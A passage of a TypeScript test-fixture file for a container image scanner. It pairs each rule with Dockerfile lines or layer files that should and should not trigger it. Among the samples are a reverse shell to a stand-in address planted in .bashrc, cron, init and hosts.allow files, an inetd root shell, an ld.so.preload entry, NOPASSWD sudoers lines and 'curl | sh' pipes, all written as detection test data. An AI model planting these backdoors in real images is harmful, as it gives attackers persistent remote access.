import type { TarEntry } from './tar.ts';

/** An image: its build file, and what else matters. */
export type Sample =
  | string
  | {
      readonly file: string;
      /** Files of its last layer. */
      readonly files?: readonly TarEntry[];
      /** `name:tag`. */
      readonly names?: readonly string[];
      readonly format?: 'docker' | 'oci';
      readonly created?: string;
    };

/** What rules tell, and of which images. */
export interface Answer {
  /** Rules of ours that tell it of the images below, or the kind of finding where rules are many. */
  readonly by: readonly string[];
  /** Ids of other tools that the findings bear: `DL3002`. */
  readonly ids: readonly string[];
  /** What else of the list of checks of others it answers, though no finding bears the id. */
  readonly rows: readonly string[];
  readonly fires: readonly Sample[];
  readonly quiet: readonly Sample[];
  /** The only builder that records enough. */
  readonly only?: 'buildkit';
  /** Images of which it cannot be told, and by which builder. */
  readonly undecided?: readonly (readonly [Sample, 'buildkit' | 'legacy'])[];
}

type Samples = Sample | readonly Sample[];
type More = Partial<Pick<Answer, 'rows' | 'only' | 'undecided'>>;

/** @param ids with blanks between */
function told(by: string, ids: string, fires: Samples, quiet: Samples, more: More = {}): Answer {
  const words = (text: string): readonly string[] => (text === '' ? [] : text.split(' '));
  return { by: words(by), ids: words(ids), rows: [], fires: [fires].flat(), quiet: [quiet].flat(), ...more };
}

/** What nobody else asks: a row of the list, and no id that findings could bear. */
const own = (by: string, row: string, fires: Samples, quiet: Samples, more: More = {}): Answer =>
  told(by, '', fires, quiet, { rows: [row], ...more });

/** An image whose last layer has files; their text, or what else a member of an archive can say. */
function withFiles(files: Readonly<Record<string, string | Omit<TarEntry, 'path'>>>, file = 'RUN make'): Sample {
  const members = Object.entries(files).map(([path, what]): TarEntry => {
    return { path, ...(typeof what === 'string' ? { content: what } : what) };
  });
  // Builders write the directories, too.
  const parents = Object.keys(files).flatMap((path) => {
    const parts = path.split('/').slice(0, -1);
    return parts.map((_, index) => parts.slice(0, index + 1).join('/'));
  });
  const directories = [...new Set(parents)].toSorted().map((path): TarEntry => ({ path, type: 'directory' }));
  return { file, files: [...directories, ...members] };
}

/** Written so that no scanner of this repository takes it for a password. */
const password: string = ['Vq7', 'tR2w', 'Zk9'].join('m');

const passwd = 'root:x:0:0::/root:/bin/sh\napp:x:1000:1000::/:/bin/sh\n';
const elf: Buffer = Buffer.from('\x7fELF\x02\x01\x01\0'.padEnd(64, '\0'), 'latin1');
const health = 'HEALTHCHECK CMD ["/srv/app", "--health"]';
const lists = { 'var/lib/apt/lists/deb_main_Packages': 'Package: x\n' };
const apkIndex = { 'var/cache/apk/APKINDEX.0.tar.gz': 'x' };
const base = (name: string): string => `LABEL org.opencontainers.image.base.name=${name}`;

const root: readonly Sample[] = [
  'CMD ["/srv/app"]',
  'USER root',
  'USER 0',
  'USER 0:0',
  'USER app\nUSER root',
  withFiles({ 'etc/passwd': 'toor:x:0:0::/root:/bin/sh\n' }, 'RUN make\nUSER toor'),
];
const notRoot: readonly Sample[] = ['USER root\nUSER 10001', withFiles({ 'etc/passwd': passwd }, 'RUN make\nUSER app')];
const secretSamples: readonly Sample[] = [
  `ENV DB_PASSWORD=${password}`,
  `ARG API_TOKEN=${password}\nRUN make`,
  ...['.npmrc', 'credential.json', 'credentials', 'password.txt', 'id_ed25519', 'secret_token.rb', 'database.yml'].map(
    (name) => `COPY ${name} /root/`,
  ),
  ...['x.secret', 'x.ovpn', 'x.private_key', 'x.jks', 'x.psafe3', 'x.keychain', 'x.pem', 'x.p12'].map(
    (name) => `COPY ${name} /root/`,
  ),
  `RUN echo 'root:${password}' | chpasswd`,
];
const noSecrets: readonly Sample[] = [
  'ENV GPG_KEY=E3FF2839C048B25C',
  'ENV KEYBOARD=us ACCESS_LOG=/dev/stdout',
  'COPY settings.py omniauth.rb public.asc /srv/',
  'COPY a /b',
];
const setuid: readonly Sample[] = [
  withFiles({ 'usr/bin/find': { content: elf, mode: 0o4755 } }),
  withFiles({ 'usr/local/bin/own': { content: elf, mode: 0o2755 } }),
];
const noSetuid: Sample = withFiles({ 'usr/bin/find': { content: elf, mode: 0o755 } });
/** The legacy builder records a digest in the place of the names. */
const copies: More = { only: 'buildkit' };
const mail = 'a@example.org';
const label = (name: string, value: string): string => `LABEL org.opencontainers.image.${name}="${value}"`;
const shell = 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1';
const file = (content: string | Buffer, mode: number): Omit<TarEntry, 'path'> => ({ content, mode });
const script = '#!/bin/sh\n';

/** What other tools ask. */
const others: readonly Answer[] = [
  told('user-root', 'CIS-DI-0001 DS-0002 DL3002 4.1', root, notRoot),
  // HEALTHCHECK NONE is told as well: nothing tells of the health then.
  told('healthcheck-missing', 'CIS-DI-0006 DS-0026 DL3057 4.6', ['CMD ["/srv/app"]', 'HEALTHCHECK NONE'], health, {
    undecided: [[{ file: 'RUN make', format: 'oci' }, 'buildkit']],
  }),
  told('healthcheck-repeated', 'DS-0023 DL3012', `${health}\n${health}`, health),
  // With yum, dnf and zypper `update` installs: it is not what fetches the index alone.
  told(
    'package-index-alone',
    'CIS-DI-0007 DS-0017 4.7',
    ['RUN apt-get update', 'RUN zypper refresh', 'RUN dnf makecache', 'RUN apk update'],
    ['RUN apt-get update && apt-get install -y curl', 'RUN dnf update -y', 'RUN yum update -y', 'RUN zypper up -y'],
  ),
  told('setuid-file', 'CIS-DI-0008 4.8', setuid, noSetuid),
  told(
    'add-instead-of-copy',
    'CIS-DI-0009 DS-0005 DL3020',
    ['ADD app /srv/app', 'ADD rootfs.tar /\nADD conf.json /etc/', 'ADD file /usr/src/app/'],
    ['COPY app /srv/app', 'ADD rootfs.tar /', 'COPY file /usr/src/app/'],
  ),
  // The legacy builder records a digest: of one file it is told with less confidence.
  told(
    'add-instead-of-copy',
    'DL3020',
    'ADD file /usr/src/app/',
    ['ADD file.tgz /srv/', 'ADD file.gz /srv/', 'ADD https://example.org/x /srv/'],
    { only: 'buildkit' },
  ),
  told(
    'add-instead-of-copy add-unverified',
    '4.9',
    ['ADD app /srv/app', 'ADD https://example.org/x /srv/x'],
    'COPY app /',
    {
      only: 'buildkit',
    },
  ),
  // Names alone do not do: what the value looks like counts, and what is in files the check `secrets` finds.
  told(
    'secret-by-argument copy-sensitive-file password-in-instruction',
    'CIS-DI-0010 DS-0031 4.10',
    secretSamples,
    noSecrets,
    {
      only: 'buildkit',
    },
  ),
  told(
    'secret-by-argument',
    'DL3064',
    [`ENV DB_PASSWORD=${password}`, `ARG API_TOKEN=${password}\nRUN make`],
    ['ENV KEYBOARD=us', 'ENV TOKEN_FILE=/run/secrets/token'],
  ),
  told('copy-sensitive-file', 'dockerfile', 'COPY id_rsa /root/', 'COPY app /srv/', copies),
  told(
    'secret',
    '',
    [
      ...[`ENV DB_PASSWORD=${password}`, `CMD ["/srv/app", "--password=${password}"]`, `LABEL db.password=${password}`],
      `ONBUILD ENV DB_PASSWORD=${password}`,
      withFiles({ 'root/.pgpass': `db:5432:app:app:${password}\n` }),
      withFiles({ 'srv/.env': `DB_PASSWORD=${password}\n` }),
    ],
    [...noSecrets, 'ENV DB_HOST=db', withFiles({ 'srv/.env': 'DB_HOST=db\n' })],
    { rows: ['image-config secret', 'sensitive'] },
  ),
  told(
    'sudo-in-run',
    'DKL-DI-0001 DS-0010 DL3004',
    ['RUN sudo apt-get update', 'RUN make && sudo make install', 'ONBUILD RUN apt-get update && sudo apt-get install'],
    ['RUN echo sudo', 'RUN apt-get install -y sudo'],
  ),
  // Mounts are those of containers; what an image asks for by VOLUME is judged.
  told(
    'volume-system-directory',
    'DKL-DI-0002 unsafe-mount',
    ['/sys', '/dev', '/proc', '/', '/etc', '/var/run', '/var/run/docker.sock', '/root', '/home/app'].map(
      (place) => `VOLUME ${place}`,
    ),
    ['VOLUME /data', 'VOLUME /var/lib/app /srv/devices'],
  ),
  told(
    'distribution-upgrade',
    'DKL-DI-0003 DS-0024 DL3035',
    [
      'RUN apt-get dist-upgrade -y',
      'RUN apt-get update && apt-get dist-upgrade',
      'RUN zypper dist-upgrade',
      'RUN zypper dup',
    ],
    ['RUN apt-get upgrade -y', 'RUN apt-get update && apt-get upgrade', 'RUN zypper in httpd'],
  ),
  // Of all caches the files of the layer decide: mounts and hooks leave none behind, whatever the command says.
  told('apk-cache-kept', 'DKL-DI-0004 DS-0025 DL3019', withFiles(apkIndex, 'RUN apk add curl'), [
    'RUN apk add --no-cache curl',
    'RUN --mount=type=cache,target=/var/cache/apk apk add curl',
  ]),
  told(
    'apt-lists-kept',
    'DKL-DI-0005 DL3009',
    withFiles(lists, 'RUN apt-get update && apt-get install -y curl'),
    'RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*',
  ),
  told(
    'yum-cache-kept',
    'DS-0015 DL3032',
    ['RUN yum install -y curl', 'RUN yum clean all && yum install -y httpd'].map((run) =>
      withFiles({ 'var/cache/yum/x': 'x' }, run),
    ),
    'RUN yum install -y curl && yum clean all',
  ),
  told(
    'dnf-cache-kept',
    'DS-0019 DS-0027 DL3040',
    [
      withFiles({ 'var/cache/dnf/x': 'x' }, 'RUN dnf install -y curl'),
      withFiles({ 'var/cache/yum/x': 'x' }, 'RUN microdnf install -y curl'),
      withFiles({ 'var/cache/libdnf5/x': 'x' }, 'RUN dnf in -y httpd'),
    ],
    ['&& dnf clean all', '&& microdnf clean all', '&& rm -rf /var/cache/libdnf5'].map(
      (end) => `RUN dnf install -y curl ${end}`,
    ),
  ),
  told(
    'zypper-cache-kept',
    'DS-0020 DL3036',
    ['RUN zypper -n in curl', 'RUN zypper clean && zypper -n in httpd'].map((run) =>
      withFiles({ 'var/cache/zypp/x': 'x' }, run),
    ),
    ['RUN zypper -n in curl && zypper clean -a', 'RUN zypper -n in httpd && zypper cc'],
  ),
  told('pip-cache-kept', 'DL3042', withFiles({ 'root/.cache/pip/x': 'x' }, 'RUN pip install x==1'), [
    'RUN pip install --no-cache-dir x==1',
    'ENV PIP_NO_CACHE_DIR=1\nRUN pip install x==1',
    'RUN --mount=type=cache,target=/root/.cache/pip pip install x==1',
  ]),
  told(
    'yarn-cache-kept',
    'DL3060',
    withFiles({ 'usr/local/share/.cache/yarn/v6/x': 'x' }, 'RUN yarn install'),
    'RUN yarn install && yarn cache clean',
  ),
  told(
    'tag-latest',
    'DKL-DI-0006',
    { file: 'RUN make', names: ['app:latest'] },
    { file: 'RUN make', names: ['app:1.2'] },
  ),
  told(
    'account-without-password',
    'DKL-LI-0001',
    withFiles({ 'etc/shadow': 'root::19000:0:99999:7:::\n' }),
    withFiles({ 'etc/shadow': 'root:*:19000:0:99999:7:::\n' }),
  ),
  told(
    'account-repeated account-second-root',
    'DKL-LI-0002',
    [
      ...['twin:x:1000:1000::/:/bin/sh\n', 'app:x:1001:1001::/:/bin/sh\n', 'toor:x:0:0::/root:/bin/sh\n'].map((line) =>
        withFiles({ 'etc/passwd': `${passwd}${line}` }),
      ),
      withFiles({ 'etc/group': 'a:x:100:\nb:x:100:\n' }),
    ],
    withFiles({ 'etc/passwd': passwd, 'etc/group': 'root:x:0:\napp:x:1000:\n' }),
  ),
  told(
    'left-over',
    'DKL-LI-0003',
    [
      ...[
        'srv/Dockerfile',
        'srv/docker-compose.yml',
        'srv/.git/HEAD',
        'root/.aws/config',
        'root/.npm/x',
        'root/.cache/x',
      ],
      ...['srv/.vscode/x', 'srv/.idea/x', 'srv/.DS_Store', 'root/.vimrc', 'root/.gcp/x'],
    ].map((path) => withFiles({ [path]: 'x' })),
    withFiles({ 'srv/app.js': 'x' }),
  ),
  // FROM is in no history: the label of the base image decides, and without it that is said.
  told(
    'base-tag-latest',
    'DS-0001 DL3006 DL3007 4.2',
    [base('debian'), base('debian:latest')],
    [base('debian:13'), base(`debian@sha256:${'0'.repeat(64)}`)],
    { undecided: [['RUN make', 'buildkit']] },
  ),
  told('port-ssh', 'DS-0004', 'EXPOSE 22', 'EXPOSE 2222'),
  told(
    'port-out-of-range',
    'DS-0008 DL3011',
    ['EXPOSE 65536', 'EXPOSE 80000'],
    ['EXPOSE 65535', 'EXPOSE 7000-7010', 'EXPOSE 40000-60000/tcp'],
  ),
  // Those of base images stand in the history, too: entries of one build alone count, and with low confidence.
  told(
    'entrypoint-repeated',
    'DS-0007 DL4004',
    ['ENTRYPOINT ["a"]\nENTRYPOINT ["b"]', 'ENTRYPOINT a\nENTRYPOINT b'],
    ['ENTRYPOINT ["a"]', 'ENTRYPOINT a'],
  ),
  told('command-repeated', 'DS-0016 DL4003', ['CMD ["a"]\nCMD ["b"]', 'CMD a\nCMD b'], ['CMD ["a"]', 'CMD a']),
  // The builders of Docker record the path that came out of it; buildah records what was written, and that is told.
  told('workdir-relative', '', [], [], {
    rows: ['DS-0009', 'DL3000'],
    undecided: [
      ['WORKDIR app', 'buildkit'],
      ['WORKDIR app', 'legacy'],
    ],
  }),
  told('copy-without-slash', 'DS-0011', 'COPY a b /srv', ['COPY a b /srv/', 'COPY a /srv'], copies),
  // Only a `cd` at the beginning is what WORKDIR would say; at the end it has no effect on anything.
  told(
    'cd-in-run',
    'DS-0013 DL3003',
    ['RUN cd /srv && make', 'RUN cd /opt && git clone https://example.org/x'],
    [
      ...['WORKDIR /srv\nRUN make', 'RUN make && cd /srv && ls && cd /tmp', 'RUN make && cd /'],
      'RUN git clone https://example.org/x /opt',
    ],
  ),
  told('wget-and-curl', 'DS-0014 DL4001', 'RUN wget -q https://example.org/a\nRUN curl https://example.org/b', [
    'RUN curl https://example.org/a && curl https://example.org/b',
    'RUN wget -q https://example.org/x',
  ]),
  told(
    'apt-unattended',
    'DS-0021 DL3014',
    ['RUN apt-get install curl', 'RUN apt-get install -q python'],
    [
      ...['RUN apt-get -y install curl', 'RUN apt-get install -qq curl', 'RUN apt-get install -q=2 curl'],
      ...['RUN apt-get install -y python', 'RUN apt-get install -q -q python', 'RUN apt-get install -qqy python'],
    ],
  ),
  told('maintainer-deprecated', 'DS-0022 DL4000', `MAINTAINER ${mail}`, [
    label('authors', mail),
    'LABEL maintainer=someone',
  ]),
  told('apt-recommends', 'DS-0029 DL3015 4.3', 'RUN apt-get install -y curl', [
    'RUN apt-get install -y --no-install-recommends curl',
    'RUN apt-get install -y -o APT::Install-Recommends=false python',
  ]),
  told(
    'workdir-system-directory',
    'DS-0030',
    ['/proc', '/proc/self/fd/8', '/sys/fs/cgroup', '/boot', '/initrd', '/lost+found/x', '/dev'].map(
      (at) => `WORKDIR ${at}`,
    ),
    'WORKDIR /srv/proc',
  ),
  told(
    'pointless-command',
    'DL3001',
    [
      ...['ssh host', 'vim /etc/x', 'shutdown -h now', 'service x start', 'ps aux', 'free', 'top', 'kill 1'],
      'mount /dev/x /mnt',
    ].map((line) => `RUN ${line}`),
    'RUN echo top',
  ),
  told('apt-unpinned', 'DL3008', 'RUN apt-get update && apt-get install -y python', [
    'RUN apt-get install -y python=2.7',
    'RUN apt-get update && apt-get upgrade',
    'RUN apt-get install -y ./x.deb',
  ]),
  told(
    'copy-then-unpack',
    'DL3010',
    ['COPY app.tar.gz /tmp/\nRUN tar -xzf /tmp/app.tar.gz', 'COPY build/app.tar /a.tar\nRUN tar -xf /a.tar'],
    'COPY app /tmp/\nRUN tar -xf /srv/other.tar',
    copies,
  ),
  told(
    'pip-unpinned',
    'DL3013',
    [
      ...['RUN pip install flask', 'RUN python3 -m pip install flask', 'RUN pipx install black'],
      'RUN pip install git+https://example.org/x.git#egg=x',
    ],
    [
      ...['RUN pip install flask==3.0', 'RUN pip install -r requirements.txt', 'RUN pip install .'],
      ...['RUN pip install foo/bar', 'RUN pip install --root-user-action ignore poetry==1.8.5'],
      'RUN pip install git+https://example.org/x@v1#egg=x',
    ],
  ),
  told(
    'npm-unpinned',
    'DL3016',
    ['RUN npm install express', 'RUN npm install -g @org/x', 'RUN npm install git+https://example.org/x.git'],
    [
      ...['RUN npm ci', 'RUN npm install express@4.1.1', 'RUN npm install x-1.2.tar'],
      'RUN npm install git+https://example.org/x.git#v1.0',
    ],
  ),
  told('apk-unpinned', 'DL3018', 'RUN apk add --no-cache flex', 'RUN apk add --no-cache flex=2.6.4-r1'),
  told('gem-unpinned', 'DL3028', 'RUN gem install bundler', [
    ...['RUN gem install bundler:1', 'RUN gem install bundler -v 2'],
    'RUN gem install bundler:2.0.1 -- --use-system-libraries true',
  ]),
  told(
    'go-unpinned',
    'DL3062',
    [
      'install example.com/pkg',
      'install example.com/pkg@latest',
      'get example.com/pkg',
      'run example.com/pkg@latest',
    ].map((words) => `RUN go ${words}`),
    ['RUN go install example.com/pkg@v1.2.3', 'RUN go build ./...'],
  ),
  told(
    'rpm-unpinned',
    'DL3033 DL3041',
    [
      ...['RUN yum install -y tomcat', 'RUN yum module install -y tomcat'],
      ...['RUN dnf install -y rpm-sign', 'RUN dnf module install -y tomcat'],
    ],
    [
      ...['RUN yum install -y tomcat-9.2', 'RUN yum module install -y tomcat:9'],
      ...['RUN dnf install -y tomcat-9.0.1', 'RUN dnf module install -y tomcat:9'],
    ],
  ),
  told('zypper-unpinned', 'DL3037', 'RUN zypper install -y tomcat', [
    'RUN zypper install -y tomcat=9',
    'RUN zypper install -y "tomcat>=9"',
  ]),
  told(
    'rpm-unattended',
    'DL3030 DL3038',
    ['RUN yum install httpd', 'RUN dnf install httpd', 'RUN microdnf install httpd'],
    ['RUN yum install -y httpd', 'RUN dnf install -y httpd'],
  ),
  told('zypper-unattended', 'DL3034', 'RUN zypper install httpd', [
    'RUN zypper -n install httpd',
    'RUN zypper install -y httpd',
  ]),
  // A line that begins with `exec` gives its place to the program, and is let pass.
  told(
    'start-shell-form',
    'DL3025',
    ['CMD something', 'ENTRYPOINT something'],
    ['CMD ["something"]', 'CMD exec something'],
  ),
  told('apt-for-scripts', 'DL3027', 'RUN apt install curl', 'RUN apt-get install curl'),
  told(
    'onbuild-forbidden',
    'DL3043',
    ['ONBUILD ONBUILD RUN x', 'ONBUILD FROM debian', 'ONBUILD MAINTAINER x'],
    'ONBUILD RUN x',
  ),
  told('useradd-large-id', 'DL3046', 'RUN useradd -u 123456 app', [
    'RUN useradd -l -u 123456 app',
    'RUN useradd -u 12345 app',
  ]),
  told('wget-progress', 'DL3047', 'RUN wget https://example.org/x', [
    'RUN wget --progress=dot:giga https://example.org/x',
    'RUN wget -q https://example.org/x',
    'RUN wget -nv https://example.org/x',
  ]),
  // Which labels an image has to have is a matter of whoever runs it; labels of the OCI specification have its forms.
  told('label-name', 'DL3048', ['LABEL com.docker.x=y', 'LABEL -x=y', 'LABEL x..y=z'], 'LABEL org.example.x=y'),
  told('label-empty', 'DL3049 DL3051', 'LABEL x=""', 'LABEL x=y'),
  // The specification asks for no semantic version: a label of any version is right.
  told(
    'label-form',
    'DL3050 DL3052 DL3053 DL3054 DL3055 DL3056',
    [
      ...[label('revision', 'not a digest!'), label('url', 'no address'), label('created', 'yesterday')],
      ...[label('licenses', 'do what you want'), label('version', ' ')],
    ],
    [
      ...[
        label('revision', '0'.repeat(40)),
        label('url', 'https://example.org'),
        label('created', '2026-01-31T12:00:00Z'),
      ],
      ...[label('licenses', 'Apache-2.0 OR MIT'), label('version', '1.2.3')],
    ],
  ),
  told('label-authors-form', 'DL3058', label('authors', 'the team'), label('authors', mail)),
  told('consecutive-runs', 'DL3059', 'RUN a\nRUN b', ['RUN a\nCOPY x /y\nRUN b', 'RUN a && b']),
  told('user-not-numeric', 'DL3066', 'USER app', ['USER 10001', 'USER 10001:10001']),
  told('copy-whole-stage', 'DL3067', 'COPY --from=build / /', 'COPY --from=build /out /usr/local/bin/', copies),
  told('shell-by-link', 'DL4005', 'RUN ln -sfv /bin/bash /bin/sh', 'SHELL ["/bin/bash", "-c"]\nRUN make'),
  told('pipe-without-pipefail', 'DL4006', 'RUN wget -O - https://example.org/x | wc -l > /number', [
    'SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN wget -O - https://example.org/x | wc -l',
    'RUN set -o pipefail && wget -O - https://example.org/x | wc -l',
  ]),
  told(
    'verification-disabled environment-unverified package-from-address verification-disabled-by-file',
    '4.11',
    [
      ...[
        'RUN apt-get install -y --allow-unauthenticated x',
        'RUN yum install -y --nogpgcheck x',
        'ENV GIT_SSL_NO_VERIFY=1',
      ],
      ...['RUN apk add --allow-untrusted x.apk', 'RUN npm install https://example.org/x.tgz'],
      'RUN echo "deb [trusted=yes] https://example.org/ stable main" > /etc/apt/sources.list.d/x.list',
    ],
    'RUN apt-get install -y curl',
  ),
  told(
    'download-executed download-unverified verification-disabled environment-unverified',
    '4.12',
    [
      ...['RUN curl -fsSL https://example.org/x | sh', 'RUN curl -k https://example.org/x -o x'],
      ...['RUN curl -fsSLO https://example.org/a.tgz && tar -xzf a.tgz', 'ENV NODE_TLS_REJECT_UNAUTHORIZED=0'],
    ],
    'RUN curl -fsSLO https://example.org/a.tgz && echo "00  a.tgz" | sha256sum -c && tar -xzf a.tgz',
  ),
  told(
    'miner',
    'history:miner-repo',
    ['RUN git clone https://example.org/xmrig.git', 'RUN git clone https://example.org/ethminer.git'],
    'RUN git clone https://example.org/app.git',
  ),
  told(
    'path-unsafe',
    'history:unsafe-path',
    ['ENV PATH=/tmp/bin:/bin', 'ENV PATH=/dev/shm:/bin', 'ENV PATH=/bin:', 'ENV PATH=.:/bin'],
    'ENV PATH=/opt/app/bin:/bin',
  ),
  told(
    'account-file-unprotected setuid-file sudoers-without-password chmod-set-id sudo-without-password',
    'escape:priv',
    [
      withFiles({ 'etc/passwd': file(passwd, 0o666) }),
      withFiles({ 'etc/shadow': file('root:*:19000::::::\n', 0o644) }),
      ...['bash', 'nmap', 'vim', 'find', 'more', 'less', 'nano', 'cp', 'awk'].map((name) =>
        withFiles({ [`usr/bin/${name}`]: file(elf, 0o4755) }),
      ),
      withFiles({ 'etc/sudoers': file('app ALL=(ALL) NOPASSWD: ALL\n', 0o440) }),
      'RUN chmod u+s /bin/cp',
      'RUN echo "app ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers',
    ],
    withFiles({ 'etc/passwd': passwd, 'etc/shadow': file('root:*:19000::::::\n', 0o640) }),
  ),
  told(
    'setuid-file sudoers-without-password sudoers-everything',
    'privilege-escalation',
    [
      withFiles({ 'usr/bin/python3': file(elf, 0o4755) }),
      withFiles({ 'etc/sudoers': file('app ALL=(ALL) NOPASSWD: ALL\n', 0o440) }),
      withFiles({ 'etc/sudoers': file('app ALL=(ALL) ALL\n', 0o440) }),
    ],
    withFiles({ 'etc/sudoers': file('root ALL=(ALL) ALL\n', 0o440) }),
  ),
  ...(
    [
      ['bashrc', 'root/.bashrc', `${shell}\n`, ''],
      ['cron', 'etc/cron.d/x', `* * * * * root ${shell}\n`, ' cron-entry'],
      ['inetd', 'etc/inetd.conf', `ingreslock stream tcp nowait root /bin/sh sh -i\n`, ''],
      ['xinetd', 'etc/xinetd.d/x', `service x\n{\n  server = /bin/sh\n  server_args = -i\n}\n`, ''],
      ['startup', 'etc/init.d/x', `${script}${shell}\n`, ' init-script'],
      ['tcpwrapper', 'etc/hosts.allow', `ALL: ALL: spawn (bash -c "${shell}")\n`, ' network-service-hook'],
    ] as const
  ).map(([name, path, text, more]) =>
    told(`backdoor-command${more}`, `backdoor:${name}`, withFiles({ [path]: text }), withFiles({ 'etc/motd': text })),
  ),
  told(
    'ld-so-preload',
    'backdoor:ld.so.preload',
    withFiles({ 'etc/ld.so.preload': '/lib/evil.so\n' }),
    withFiles({ 'etc/motd': '/lib/evil.so\n' }),
  ),
  told(
    'sshd-replaced login-leads-to-sshd',
    'backdoor:sshd',
    [
      withFiles({ 'usr/sbin/sshd': file(`${script}exec /usr/bin/real "$@"\n`, 0o755) }),
      withFiles({ 'usr/sbin/sshd': file(elf, 0o755), 'tmp/su': { type: 'symlink', linkTarget: '/usr/sbin/sshd' } }),
    ],
    withFiles({ 'usr/sbin/sshd': file(elf, 0o755) }),
  ),
  told(
    'rootkit-file',
    'backdoor:rootkit',
    [withFiles({ 'lib/libsh.so': 'x' }), withFiles({ 'lib/modules/diamorphine.ko': 'x' })],
    withFiles({ 'lib/libssh.so': 'x' }),
  ),
  told(
    'service-password-guessed service-open',
    'weakpass',
    [
      withFiles({
        'opt/tomcat/conf/tomcat-users.xml':
          '<tomcat-users><user username="tomcat" password="tomcat" roles="manager-gui"/></tomcat-users>',
      }),
      withFiles({ 'etc/redis/redis.conf': 'bind 0.0.0.0\nprotected-mode no\n' }),
    ],
    withFiles({ 'etc/redis/redis.conf': 'bind 127.0.0.1\n' }),
  ),
];

/** What nobody else asks. */
const nobody: readonly Answer[] = [
  own(
    'download-executed download-unverified package-from-address add-unverified',
    'H-02',
    [
      ...['RUN curl -s https://example.org/x | sh', 'RUN wget -O- https://example.org/x | bash'],
      ...['RUN curl -fsSL https://example.org/a.tgz | tar -xz', 'RUN pip install https://example.org/x.tgz'],
      ...['ADD https://example.org/x /srv/x', 'ONBUILD RUN curl -s https://example.org/x | sh'],
    ],
    'RUN curl -fsSLO https://example.org/x && echo "00  x" | sha256sum -c && sh x',
    copies,
  ),
  own(
    'verification-disabled environment-unverified',
    'H-03',
    [
      ...['RUN curl -k https://example.org/x -o x', 'RUN wget --no-check-certificate https://example.org/x'],
      ...['RUN git config --global http.sslVerify false', 'ENV NODE_TLS_REJECT_UNAUTHORIZED=0'],
      ...['RUN npm config set strict-ssl false', 'RUN pip install --trusted-host example.org x==1'],
      ...['RUN apt-get install -y --allow-unauthenticated x', 'RUN yum install -y --nogpgcheck x'],
      'RUN apk add --allow-untrusted x.apk',
    ],
    'RUN curl -fsSL https://example.org/x -o x',
  ),
  own(
    'environment-dangerous path-unsafe',
    'H-04',
    [
      ...['ENV LD_PRELOAD=/lib/x.so', 'ENV LD_LIBRARY_PATH=/tmp/lib', 'ENV PYTHONPATH=/tmp', 'ENV PATH=.:/bin'],
      ...['ENV NODE_OPTIONS=--inspect=0.0.0.0', 'ENV DEBUG=true', 'ENV FLASK_ENV=development', 'ENV DJANGO_DEBUG=1'],
      'ENV JAVA_TOOL_OPTIONS=-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005',
      withFiles({ 'opt/lib': { type: 'directory', mode: 0o777 } }, 'ENV LD_LIBRARY_PATH=/opt/lib\nRUN make'),
    ],
    ['ENV NODE_ENV=production', 'ENV DEBUG=app:*', 'ENV NODE_OPTIONS=--inspect=127.0.0.1'],
  ),
  own(
    'history-future layer-larger-than-instruction sensitive-file-unexplained',
    'H-05',
    [
      { file: 'RUN make', created: '2030-01-01T00:00:00Z' },
      {
        file: 'COPY app.json /srv/',
        files: Array.from({ length: 1500 }, (_, n) => ({ path: `srv/${n}`, content: 'x' })),
      },
      withFiles({ 'srv/app': 'x', 'usr/bin/x': file(elf, 0o4755) }, 'COPY app.json /srv/'),
    ],
    withFiles({ 'srv/app.json': '{}' }, 'COPY app.json /srv/'),
  ),
  own(
    'distribution-end-of-life',
    'H-07',
    withFiles({
      'etc/os-release': 'ID=debian\nVERSION_ID="8"\nPRETTY_NAME="Debian 8"\n',
      'etc/debian_version': '8.11\n',
    }),
    withFiles({ 'etc/os-release': 'ID=debian\nVERSION_ID="13"\n', 'etc/debian_version': '13.1\n' }),
  ),
  own('created-unknown', 'H-08', { file: 'RUN make', created: '1970-01-01T00:00:00Z' }, 'RUN make'),
  own(
    'port-privileged port-admin',
    'H-10',
    ['USER 1000\nEXPOSE 80', 'EXPOSE 2375', 'EXPOSE 5005', 'EXPOSE 9229', 'EXPOSE 6379'],
    ['USER 1000\nEXPOSE 8080', 'EXPOSE 80'],
  ),
  own(
    'start-target',
    'H-11',
    [
      'CMD ["/srv/absent"]',
      ...[0o777, 0o775, 0o644].map((mode) =>
        withFiles({ 'srv/app': file(script, mode) }, 'RUN make\nENTRYPOINT ["/srv/app"]'),
      ),
      withFiles({ 'srv/app': { ...file(script, 0o755), uid: 1000 } }, 'RUN make\nUSER 1000\nENTRYPOINT ["/srv/app"]'),
    ],
    withFiles({ 'srv/app': file(script, 0o755) }, 'RUN make\nUSER 1000\nENTRYPOINT ["/srv/app"]'),
  ),
  own(
    'volume-changed-later volume-over-code',
    'H-12',
    [withFiles({ 'data/seed': 'x' }, 'VOLUME /data\nCOPY seed /data/'), 'VOLUME /srv\nCMD ["/srv/app"]'],
    withFiles({ 'data/seed': 'x' }, 'COPY seed /data/\nVOLUME /data\nCMD ["/srv/app"]'),
  ),
  own(
    'onbuild-present download-executed',
    'H-13',
    ['ONBUILD RUN make', 'ONBUILD RUN curl https://example.org/x | sh'],
    'RUN make',
  ),
  own(
    'stop-signal-kill start-shell-form start-without-init',
    'H-14',
    ['STOPSIGNAL SIGKILL', 'STOPSIGNAL 9', 'CMD /srv/app', 'ENTRYPOINT ["/start.sh"]'],
    'STOPSIGNAL SIGTERM\nENTRYPOINT ["tini", "--", "/start.sh"]',
  ),
  own(
    'label-acts',
    'H-15',
    [
      'LABEL RUN="podman run --privileged -v /:/host IMAGE"',
      'LABEL INSTALL="podman run IMAGE"',
      'LABEL ofelia.job-exec.x.command="sh"',
    ],
    'LABEL org.opencontainers.image.title=app',
  ),
  own('label-source-missing', 'H-15', 'RUN make', label('source', 'https://example.org/app.git')),
  own(
    'chmod-everybody chown-system-directory user-in-privileged-group sudo-without-password chmod-set-id password-in-instruction',
    'H-16',
    [
      ...['RUN chmod -R 777 /srv', 'RUN chown -R app /usr', 'RUN usermod -aG docker app'],
      ...['RUN echo "app ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/app', 'RUN setcap cap_sys_admin+ep /usr/bin/x'],
      `RUN echo 'root:${password}' | chpasswd`,
    ],
    'RUN chmod 755 /srv && chown -R app /srv/data',
  ),
  own(
    'miner reverse-shell decoded-and-run hidden-place schedule-by-run',
    'H-18',
    [
